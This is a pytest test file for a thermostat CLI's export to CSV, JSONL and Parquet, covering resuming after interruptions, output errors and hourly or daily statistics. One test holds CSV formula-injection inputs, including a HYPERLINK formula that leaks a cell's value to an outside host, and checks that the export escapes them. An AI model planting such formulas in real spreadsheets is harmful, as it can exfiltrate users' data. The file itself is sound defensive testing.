"""Readings into files: all of them, each once, whatever happens on the way."""

from __future__ import annotations

import csv
import io
import itertools
import json
from copy import replace
from datetime import timedelta
from decimal import Decimal
from typing import TYPE_CHECKING, Any
from unittest.mock import Mock

import pytest
from pyarrow import parquet as arrow_parquet
from pyarrow.csv import read_csv
from pyarrow.parquet import read_table

from smarther.domain.readings.reading import Reading, instant_text
from smarther.domain.summaries.statistics import Measure, Statistics, hour_of
from smarther.store.hours_and_days import HoursAndDays
from smarther.store.past.rows import Every, RowPage, Rows, TimeRange
from smarther.store.quarantine import Quarantine
from smarther.store.readings import Readings, stored
from smarther_cli.formats import parquet
from smarther_cli.formats.lines import COLUMNS, TABLES
from tests.cli.conftest import NOW

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.cli.conftest import Home, Run

FULL = Reading(
    plant_id="plant-1",
    module_id="module-1",
    time=NOW,
    function="HEATING",
    mode="BOOST",
    load_state="ACTIVE",
    temperature_c=Decimal("20.25"),
    temperature_f=Decimal("68.45"),
    temperature_time=NOW,
    humidity_percent=Decimal("48.2"),
    humidity_time=NOW,
    setpoint_c=Decimal(21),
    setpoint_f=Decimal("69.8"),
    program=Decimal(0),
    activation_time='2026-01-31T13:00:00,"quoted"\nü',
    temperature_format="F",
    online=False,
    sender_system="thermoregulation",
    sender_address_type="AddressLocation",
    extra={"new": Decimal("1.5")},
    event_id="495def51",
    event_type="DeviceToCloud",
    event_time=NOW,
    event_extra={"topic": "x"},
    unread={"setpoint_c": {"value": "--"}},
)


@pytest.fixture(autouse=True)
def thermostats(home: Home) -> None:
    home.thermostat("module-1", "Kitchen")
    home.thermostat("module-2", "Attic")


@pytest.fixture
def small_pages(monkeypatch: pytest.MonkeyPatch) -> None:
    """Three items a page."""
    whole = Rows.pages

    def pages(self: Rows, time_range: TimeRange, **options: Any) -> Iterator[RowPage]:
        return whole(self, time_range, **(options | {"page_size": 3}))

    monkeypatch.setattr(Rows, "pages", pages)


def said(home: Home, module_id: str = "module-1", *, count: int = 1) -> None:
    for index in range(count):
        reading = replace(FULL, module_id=module_id, time=NOW + timedelta(minutes=index))
        Readings(home.table).store(reading, received_at=NOW, source="push")


def read(path: Path) -> list[dict[str, Any]]:
    if path.suffix == ".csv":
        return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    if path.suffix == ".parquet":
        found: list[dict[str, Any]] = read_table(path).to_pylist()
        return found
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_every_attribute_of_a_reading_has_its_column() -> None:
    full = stored(FULL, received_at=NOW, source="push", retention_days=1)
    assert set(Reading._fields) - {"key_only"} <= full.keys(), "the reading of this test leaves something out"

    assert set(COLUMNS) == full.keys() - {"pk", "sk", "expires_at"} | {"thermostat", "plant", "digest"}


def test_csv(home: Home, run: Run, tmp_path: Path) -> None:
    said(home)

    result = run("export", "--output", str(tmp_path / "all.csv"))

    assert result.exit_code == 0, result.output
    (row,) = read(tmp_path / "all.csv")
    assert tuple(row) == COLUMNS
    assert (row["thermostat"], row["plant"], row["module_id"]) == ("Kitchen", "Home", "module-1")
    assert (row["temperature_c"], row["program"], row["online"]) == ("20.25", "0", "false")
    assert row["activation_time"] == FULL.activation_time
    assert json.loads(row["extra"]) == {"new": 1.5}
    assert "1 readings" in result.stderr


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        *(("=1+1", "'=1+1"), ("+39 cucina", "'+39 cucina"), ("-2 piano", "'-2 piano"), ("@SUM(1+1)", "'@SUM(1+1)")),
        *(('=HYPERLINK("http://x/?"&A1,"a")', '\'=HYPERLINK("http://x/?"&A1,"a")'), ("Küche 😀, è", "Küche 😀, è")),
        *(("a=1", "a=1"), ("'=1", "'=1"), ("\uff1d1+1", "'\uff1d1+1")),
    ],
)
def test_no_name_is_a_formula_in_a_csv_and_every_other_format_has_it_as_it_is(
    home: Home, run: Run, tmp_path: Path, name: str, cell: str
) -> None:
    home.thermostat("module-1", name)
    said(home)
    for form in ("csv", "jsonl", "parquet"):
        run("export", "-o", str(tmp_path / f"all.{form}"))
        (row,) = read(tmp_path / f"all.{form}")
        assert row["thermostat"] == (cell if form == "csv" else name)


@pytest.mark.parametrize("begin", ["\t", "\r", "\n", " =", "\0", "\t="])
def test_nothing_else_that_was_said_is_a_formula_either_and_numbers_stay_numbers(
    home: Home, run: Run, tmp_path: Path, begin: str
) -> None:
    reading = replace(FULL, activation_time=f"{begin}1", temperature_c=Decimal("-2.5"))
    Readings(home.table).store(reading, received_at=NOW, source="push")
    run("export", "-o", str(tmp_path / "all.csv"))
    (row,) = read(tmp_path / "all.csv")
    assert (row["activation_time"], row["temperature_c"]) == (f"'{begin}1", "-2.5")


def test_a_csv_begins_with_the_mark_by_which_spreadsheets_know_utf_8(home: Home, run: Run, tmp_path: Path) -> None:
    home.thermostat("module-1", "Città")
    said(home)
    run("export", "-o", str(tmp_path / "all.csv"))
    run("export", "-o", str(tmp_path / "all.jsonl"))
    assert (tmp_path / "all.csv").read_bytes().startswith(b"\xef\xbb\xbfthermostat,")
    assert (tmp_path / "all.jsonl").read_bytes().startswith(b"{")
    table = read_csv(tmp_path / "all.csv")
    assert table.column_names[0] == "thermostat", "who reads CSV by machine knows the mark as well"
    assert table["thermostat"].to_pylist() == ["Città"]


def test_jsonl_by_the_files_name(home: Home, run: Run, tmp_path: Path) -> None:
    said(home)

    run("export", "--output", str(tmp_path / "all.jsonl"))

    (row,) = read(tmp_path / "all.jsonl")
    assert (row["temperature_c"], row["program"], row["online"]) == (20.25, 0, False)
    assert row["extra"] == {"new": 1.5}
    assert not {"pk", "sk", "expires_at"} & row.keys()


def test_parquet_has_typed_columns(home: Home, run: Run, tmp_path: Path) -> None:
    said(home)
    Readings(home.table).store(
        Reading(plant_id="plant-1", module_id="module-2", time=NOW), received_at=NOW, source="poll"
    )

    result = run("export", "--output", str(tmp_path / "all.parquet"))

    assert result.exit_code == 0, result.output
    full, bare = sorted(read(tmp_path / "all.parquet"), key=lambda row: str(row["module_id"]))
    assert tuple(full) == COLUMNS
    assert None not in full.values(), "everything that it said"
    assert (
        full
        | {
            "thermostat": "Kitchen",
            "time": NOW,
            "event_time": NOW,
            "temperature_c": 20.25,
            "temperature_f": 68.45,
            "program": 0,
            "online": False,
            "activation_time": FULL.activation_time,
            "extra": '{"new": 1.5}',
        }
        == full
    )
    assert {name for name, value in bare.items() if value is not None} == {
        *("thermostat", "plant", "module_id", "plant_id", "time", "received_at", "source", "digest")
    }
    types = {field.name: str(field.type) for field in read_table(tmp_path / "all.parquet").schema}
    assert (types["received_at"], types["setpoint_c"], types["program"]) == ("timestamp[us, tz=UTC]", "double", "int64")


@pytest.mark.usefixtures("small_pages")
def test_parquet_is_written_by_row_groups(
    home: Home, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parquet, "ROWS_IN_A_GROUP", 4)
    said(home, count=14)

    run("export", "--output", str(tmp_path / "all.parquet"))

    file = arrow_parquet.ParquetFile(tmp_path / "all.parquet")
    groups = [file.metadata.row_group(number).num_rows for number in range(file.metadata.num_row_groups)]
    assert sum(groups) == 14
    assert max(groups) <= 4
    assert [row["time"] for row in read(tmp_path / "all.parquet")] == [NOW + timedelta(minutes=n) for n in range(14)]


def test_parquet_needs_a_file(home: Home, run: Run) -> None:
    said(home)

    result = run("export", "--format", "parquet")

    assert (result.exit_code, result.stdout) == (2, "")
    assert "--output" in result.stderr


def test_a_parquet_file_whose_end_was_broken_off_is_made_anew(
    home: Home, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    said(home, count=8)
    with monkeypatch.context() as patch:
        patch.setattr(arrow_parquet.ParquetWriter, "write_table", Mock(side_effect=Interruption))
        assert isinstance(run("export", "-o", str(tmp_path / "all.parquet")).exception, Interruption)
    assert not (tmp_path / "all.parquet").exists()

    assert run("export", "-o", str(tmp_path / "all.parquet")).exit_code == 0

    assert len(read(tmp_path / "all.parquet")) == 8
    assert [each.name for each in tmp_path.iterdir()] == ["all.parquet"]


def test_standard_output(home: Home, run: Run) -> None:
    said(home, count=2)

    result = run("export", "--format", "jsonl")

    assert [json.loads(line)["thermostat"] for line in result.stdout.splitlines()] == ["Kitchen", "Kitchen"]
    assert run("export").stdout.startswith("\ufeffthermostat,plant,"), "the same as in a file"


@pytest.mark.usefixtures("small_pages")
def test_all_of_all_pages_and_of_those_that_the_directory_forgot(home: Home, run: Run, tmp_path: Path) -> None:
    said(home, count=7)
    said(home, "module-2", count=5)
    said(home, "gone", count=4)

    assert run("export", "-o", str(tmp_path / "all.csv")).exit_code == 0

    rows = read(tmp_path / "all.csv")
    assert len(rows) == len({(row["module_id"], row["time"]) for row in rows}) == 16


def test_only_readings_are_exported(home: Home, run: Run, tmp_path: Path) -> None:
    said(home)
    Quarantine(home.table).keep(b"odd", [], received_at=NOW)
    home.dynamodb.put_item(
        TableName=home.table_name, Item={"pk": {"S": "MODULE#module-1"}, "sk": {"S": "HOUR#2026-01-31T12Z"}}
    )

    run("export", "-o", str(tmp_path / "all.jsonl"))

    assert len(read(tmp_path / "all.jsonl")) == 1


@pytest.mark.parametrize("module", [(), ("--module", "kitchen")])
def test_a_span(home: Home, run: Run, tmp_path: Path, module: tuple[str, ...]) -> None:
    said(home, count=10)

    run(
        "export",
        *module,
        *("-o", str(tmp_path / "some.jsonl"), "--since", "2026-01-31T12:33Z", "--until", "2026-01-31T12:36Z"),
    )

    assert sorted(row["time"] for row in read(tmp_path / "some.jsonl")) == [
        "2026-01-31T12:33:00Z",
        "2026-01-31T12:34:00Z",
        "2026-01-31T12:35:00Z",
    ]


@pytest.mark.usefixtures("small_pages")
def test_chosen_thermostats_in_the_order_of_time(home: Home, run: Run, tmp_path: Path) -> None:
    said(home, count=7)
    said(home, "module-2", count=4)
    said(home, "gone", count=2)

    run("export", "-m", "attic", "-m", "kitchen", "-o", str(tmp_path / "some.csv"))

    rows = read(tmp_path / "some.csv")
    assert [row["thermostat"] for row in rows] == ["Attic"] * 4 + ["Kitchen"] * 7
    assert [row["time"] for row in rows[4:]] == sorted(row["time"] for row in rows[4:])


def test_no_readings_leave_no_file(run: Run, tmp_path: Path) -> None:
    result = run("export", "-o", str(tmp_path / "none.csv"))

    assert result.exit_code == 4
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("output", "words"),
    [
        ("nowhere/all.csv", "no folder"),
        (".", "is a folder"),
        ("all.xlsx", "does not end in .csv, .jsonl or .parquet"),
        ("all", "--format"),
    ],
)
def test_a_file_that_cannot_be_is_told_in_a_sentence(  # noqa: PLR0913, PLR0917 - fixtures and a case
    home: Home, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, output: str, words: str
) -> None:
    monkeypatch.chdir(tmp_path)
    said(home)

    result = run("export", "-o", output)

    assert result.exit_code == 2, result.output
    assert words in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_what_the_machine_does_not_let_write_is_told_in_a_sentence(home: Home, run: Run, tmp_path: Path) -> None:
    said(home)
    (tmp_path / "all.csv.part").mkdir()

    result = run("export", "-o", str(tmp_path / "all.csv"))

    assert result.exit_code == 1
    assert "all.csv.part cannot be written or read: Is a directory" in result.stderr


def test_a_format_goes_before_the_files_name(home: Home, run: Run, tmp_path: Path) -> None:
    said(home)

    run("export", "-o", str(tmp_path / "all.txt"), "--format", "jsonl")
    run("export", "-o", str(tmp_path / "all.ndjson"))

    assert (tmp_path / "all.txt").read_bytes() == (tmp_path / "all.ndjson").read_bytes() != b""


def test_a_file_that_is_there_is_replaced_only_when_asked(home: Home, run: Run, tmp_path: Path) -> None:
    said(home)
    (tmp_path / "all.csv").write_text("precious")

    result = run("export", "-o", str(tmp_path / "all.csv"))

    assert result.exit_code == 2
    assert (tmp_path / "all.csv").read_text() == "precious"
    assert run("export", "-o", str(tmp_path / "all.csv"), "--overwrite").exit_code == 0
    assert len(read(tmp_path / "all.csv")) == 1


# ---- interruptions


class Interruption(Exception):  # noqa: N818 - what happens, not what is wrong
    """The machine is switched off."""


@pytest.fixture
def interrupted(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Pages of three; the machine is switched off before the page with the number in this list, once."""
    at: list[int] = []
    numbers = itertools.count()
    whole = Rows.pages

    def pages(self: Rows, time_range: TimeRange, **options: Any) -> Iterator[RowPage]:
        for page in whole(self, time_range, **(options | {"page_size": 3})):
            if at == [next(numbers)]:
                at.clear()
                raise Interruption
            yield page

    monkeypatch.setattr(Rows, "pages", pages)
    return at


@pytest.mark.parametrize("number", range(6))
@pytest.mark.parametrize(
    ("form", "words"), [("csv", ()), ("jsonl", ("-m", "attic", "-m", "kitchen")), ("parquet", ("-m", "a", "-m", "k"))]
)
def test_an_interrupted_export_goes_on_and_has_each_reading_once(  # noqa: PLR0913, PLR0917 - fixtures and cases
    home: Home, run: Run, tmp_path: Path, interrupted: list[int], form: str, number: int, words: tuple[str, ...]
) -> None:
    said(home, count=8)
    said(home, "module-2", count=7)
    path = tmp_path / f"all.{form}"
    interrupted.append(number)

    broken = run("export", "-o", str(path), *words)
    if isinstance(broken.exception, Interruption):
        assert not path.exists()
        with (tmp_path / f"all.{form}.part").open("a") as part:
            part.write("written, but not noted\n" * 5000)
        assert run("export", "-o", str(path), *words).exit_code == 0

    rows = read(path)
    assert len(rows) == len({(row["module_id"], row["time"]) for row in rows}) == 15
    assert [each.name for each in tmp_path.iterdir()] == [path.name]


def test_ctrl_c_leaves_a_word_of_how_it_goes_on(
    home: Home, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, small_pages: None
) -> None:
    said(home, count=8)
    whole, pages = Rows.pages, iter(range(2))

    def until_ctrl_c(self: Rows, time_range: TimeRange, **options: Any) -> Iterator[RowPage]:
        for page in whole(self, time_range, **options):
            if next(pages, None) is None:
                raise KeyboardInterrupt
            yield page

    monkeypatch.setattr(Rows, "pages", until_ctrl_c)

    result = run("export", "-o", str(tmp_path / "all.csv"))

    assert result.exit_code == 130
    assert "Stopped behind" in result.stderr
    assert "the same command goes on" in result.stderr


def test_going_on_is_told(home: Home, run: Run, tmp_path: Path, interrupted: list[int]) -> None:
    said(home, count=8)
    interrupted.append(2)
    run("export", "-o", str(tmp_path / "all.csv"), "--since", "2026-01-01")

    result = run("export", "-o", str(tmp_path / "all.csv"), "--since", "2026-01-01")

    assert "Going on behind" in result.stderr
    assert "8 readings" in result.stderr


def test_other_words_do_not_go_on_with_it(home: Home, run: Run, tmp_path: Path, interrupted: list[int]) -> None:
    said(home, count=8)
    interrupted.append(1)
    run("export", "-o", str(tmp_path / "all.csv"))

    result = run("export", "-o", str(tmp_path / "all.csv"), "--since", "2026-01-01")

    assert result.exit_code == 2
    assert "other words" in result.stderr


def test_a_note_that_cannot_be_read_is_told(home: Home, run: Run, tmp_path: Path, interrupted: list[int]) -> None:
    said(home, count=8)
    interrupted.append(1)
    run("export", "-o", str(tmp_path / "all.csv"))
    (tmp_path / "all.csv.resume").write_text("{")

    assert run("export", "-o", str(tmp_path / "all.csv")).exit_code == 2


def test_a_relative_since_means_what_it_meant_at_the_beginning(
    home: Home, run: Run, tmp_path: Path, interrupted: list[int]
) -> None:
    for minutes in range(8):
        reading = replace(FULL, time=NOW - timedelta(minutes=minutes))
        Readings(home.table).store(reading, received_at=NOW, source="push")
    interrupted.append(1)
    run("export", "-o", str(tmp_path / "all.jsonl"), "--since", "4m")
    note = json.loads((tmp_path / "all.jsonl.resume").read_text())
    note["since"] = (NOW - timedelta(minutes=6, seconds=30)).isoformat()
    (tmp_path / "all.jsonl.resume").write_text(json.dumps(note))

    run("export", "-o", str(tmp_path / "all.jsonl"), "--since", "4m")

    assert len(read(tmp_path / "all.jsonl")) > 4


# ---- hours and days


@pytest.mark.parametrize("name", ["all.csv", "all.jsonl", "all.parquet"])
@pytest.mark.parametrize("every", ["hour", "day"])
def test_hours_and_days(home: Home, run: Run, tmp_path: Path, name: str, every: str) -> None:
    """Of those that have left the account, too; what is not known of one is empty."""
    said(home)
    known = Measure(Decimal("20.25"), Decimal("19.5"), Decimal(21), Decimal(60))
    made = Statistics(count=4, temperature=known, load_minutes=Decimal(60), heating_minutes=Decimal(25))
    statistics = HoursAndDays(home.table)
    for module in ("module-1", "module-gone"):
        statistics.store(module, {hour_of(NOW): made}, {NOW.date(): made})

    result = run("export", "--every", every, "--output", str(tmp_path / name))

    assert result.exit_code == 0, result.output
    assert f"2 {every}s in" in result.stderr
    rows = {row["module_id"]: row for row in read(tmp_path / name)}
    kitchen = rows["module-1"]
    assert set(kitchen) <= set(TABLES[Every(every)])
    assert (kitchen["thermostat"], kitchen["plant"], kitchen["plant_id"]) == ("Kitchen", "Home", "plant-1")
    assert float(kitchen["temperature_mean_c"]) == 20.25
    assert float(kitchen["heating_minutes"]) == 25
    assert not kitchen.get("humidity_mean_percent")
    begins: dict[str, tuple[str, object]] = {
        "hour": (instant_text(hour_of(NOW)), hour_of(NOW)),
        "day": (NOW.date().isoformat(), NOW.date()),
    }
    assert kitchen[every] == begins[every][name.endswith(".parquet")]
    assert not rows["module-gone"].get("thermostat")


@pytest.mark.parametrize(("every", "kept"), [("hour", 3), ("day", 2)])
def test_hours_and_days_of_a_period_are_those_that_hold_its_ends(
    home: Home, run: Run, tmp_path: Path, every: str, kept: int
) -> None:
    home.stack.parameters["Timezone"] = "Pacific/Kiritimati"  # fourteen hours ahead
    made = Statistics(count=1, load_minutes=Decimal(60))
    hours = {hour_of(NOW) - timedelta(hours=n): made for n in range(9)}
    days = {(NOW + timedelta(hours=14)).date() - timedelta(days=n): made for n in range(9)}
    HoursAndDays(home.table).store("module-1", hours, days)
    since = {"hour": NOW - timedelta(hours=3), "day": NOW - timedelta(days=2)}[every]
    until = {"hour": NOW - timedelta(hours=1), "day": NOW - timedelta(days=1)}[every]
    words = ("--since", since.isoformat(), "--until", until.isoformat(), "-m", "kitchen")

    assert run("export", "--every", every, *words, "-o", str(tmp_path / "some.jsonl")).exit_code == 0

    found = [row[every] for row in read(tmp_path / "some.jsonl")]
    assert len(found) == kept
    assert found == sorted(found)


def test_no_hours_are_told_as_such(run: Run, tmp_path: Path) -> None:
    result = run("export", "--every", "hour", "--output", str(tmp_path / "all.csv"))
    assert result.exit_code == 4
    assert "no such hours" in result.stderr


def test_hours_that_were_broken_off_are_not_gone_on_with_as_days(
    home: Home, run: Run, tmp_path: Path, small_pages: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = Statistics(count=1, load_minutes=Decimal(60))
    hours = {hour_of(NOW) - timedelta(hours=n): made for n in range(9)}
    HoursAndDays(home.table).store("module-1", hours, {NOW.date(): made})
    output = str(tmp_path / "all.csv")
    breaking = Mock(side_effect=[b"x\n", b"y\n", KeyboardInterrupt])
    with monkeypatch.context() as patch:
        patch.setattr("smarther_cli.commands.readings.export.lines", breaking)
        assert run("export", "--every", "hour", "-m", "kitchen", "-o", output).exit_code == 130

    assert run("export", "--every", "day", "-m", "kitchen", "-o", output).exit_code == 2
    assert run("export", "--every", "hour", "-m", "kitchen", "-o", output).exit_code == 0
    assert len((tmp_path / "all.csv").read_text().splitlines()) == 1 + 2 + 3, "header, what was there, the last page"
